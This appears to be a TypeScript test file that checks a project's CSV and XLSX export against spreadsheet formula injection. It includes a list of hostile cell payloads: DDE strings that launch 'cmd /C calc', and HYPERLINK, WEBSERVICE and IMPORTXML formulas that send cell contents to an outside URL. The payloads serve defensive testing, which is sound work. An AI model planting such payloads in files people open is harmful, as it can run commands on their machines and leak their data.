import { execFileSync } from 'node:child_process'
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { strFromU8, unzipSync } from 'fflate'
import { afterAll, expect, test } from 'vitest'
import { csvHeader, csvRows } from '../../src/export/csv.ts'
import { column, type OutputTable } from '../../src/export/tables.ts'
import { Workbook } from '../../src/export/xlsx.ts'
import { FULL, LONG } from './full.ts'
import { random } from './random.ts'

const scratch = mkdtempSync(join(tmpdir(), 'tongbao-'))
afterAll(() => rmSync(scratch, { recursive: true }))

const LEADS = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n=',
  '＝',
  '＋',
  '－',
  '＠',
  ' =',
  '\u00a0=',
  '\u3000=',
  '\ufeff=',
  '\0=',
  "'=",
  '"=',
  '";=',
  ',=',
  '\t@',
  '=\t',
  '%0A=',
  '|',
  '=-',
]
const LOADS = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://example.org?x="&A1,"看")',
  'WEBSERVICE("http://example.org")',
  "SUM(1+1)*cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"a")',
  'IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
  'A1',
  '市教育局',
  '86栏目长期未更新',
  '5',
]
const N = FULL || LONG ? 10_000 : 1_000

interface Cell {
  text: string
  value: number
}
const table: OutputTable<Cell> = {
  name: 'cells',
  zh: '格',
  en: 'cells',
  columns: [
    column('text', 'string', '文', 'text', (c) => c.text),
    column('value', 'number', '数', 'value', (c) => c.value),
  ],
}
const cells = (): Cell[] => {
  const r = random(1)
  return Array.from({ length: N }, (_, i) => ({
    text: `${LEADS[i % LEADS.length]}${r.below(4) === 0 ? r.pick(LEADS) : ''}${r.pick(LOADS)}`,
    value: -(1 + r.below(100)) / 4,
  }))
}
/** What Excel, WPS or LibreOffice could run at the head of a cell, after what they pass over. */
const RUNS = /^[\s\u00a0\u3000\ufeff\0]*[=+\-@＝＋－＠]|^[\t\r\n\0]/

test(`of ${N} hostile cells none opens like a formula in a CSV, and numbers stay numbers`, () => {
  const made = cells()
  const rows = parse(csvHeader(table) + csvRows(table, made), { bom: true, columns: true }) as Record<
    string,
    string
  >[]
  expect(rows).toHaveLength(N)
  expect(rows.filter((r) => RUNS.test(r.text!))).toEqual([])
  expect(rows.map((r) => Number(r.value))).toEqual(made.map((c) => c.value))
  expect(rows.map((r) => r.text!.replace(/^'/, ''))).toEqual(made.map((c) => c.text.replace(/^'/, '')))
})

const office = ['/usr/bin/soffice', '/usr/bin/libreoffice'].find((path) => existsSync(path))

// Slow to start, so only in the long form.
test.skipIf(!office || !LONG)(
  `of ${N} hostile cells LibreOffice runs none, from CSV nor from a workbook`,
  () => {
    writeFileSync(join(scratch, 'cells.csv'), csvHeader(table) + csvRows(table, cells()))
    const workbook = new Workbook(join(scratch, 'book.xlsx'))
    const sheet = workbook.sheet('a', [
      { header: 'text', type: 'string' },
      { header: 'value', type: 'number' },
    ])
    for (const c of cells()) sheet.add([c.text, c.value])
    workbook.close()
    // That the check can fail: one that is not disarmed.
    writeFileSync(join(scratch, 'raw.csv'), '=1+1\n')
    const formulas = (name: string) => {
      execFileSync(
        office!,
        [
          `-env:UserInstallation=file://${scratch}/profile`,
          '--headless',
          '--convert-to',
          'ods',
          '--outdir',
          scratch,
          join(scratch, name),
        ],
        { stdio: 'pipe' },
      )
      const ods = unzipSync(readFileSync(join(scratch, name.replace(/\w+$/, 'ods'))))
      return strFromU8(ods['content.xml']!).split('table:formula=').length - 1
    }
    expect(['raw.csv', 'cells.csv', 'book.xlsx'].map(formulas)).toEqual([1, 0, 0])
  },
  300_000,
)
